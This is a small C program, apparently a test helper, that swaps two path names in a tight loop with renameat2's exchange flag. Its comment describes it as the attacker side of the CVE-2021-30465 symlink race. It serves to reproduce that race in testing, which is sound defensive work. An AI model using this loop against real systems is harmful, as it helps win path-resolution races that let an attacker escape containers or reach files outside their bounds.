/* swap: exchange two names, again and again
 *
 * usage: swap MILLISECONDS A B
 *
 * The attacker of a symlink race: one who can write to a directory in which the runtime resolves a
 * path (CVE-2021-30465). rename(2) with RENAME_EXCHANGE leaves no moment in which a name is missing.
 * Prints how often it swapped; an even number, so that the names end where they were.
 */
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;

	const long end = now_ms() + atol(argv[1]);
	unsigned long swaps = 0;

	while (now_ms() < end || swaps % 2 != 0) {
		if (renameat2(-100, argv[2], -100, argv[3], 1 << 1) < 0) {
			perror("swap");
			return 1;
		}
		swaps++;
	}
	printf("%lu\n", swaps);
	return 0;
}
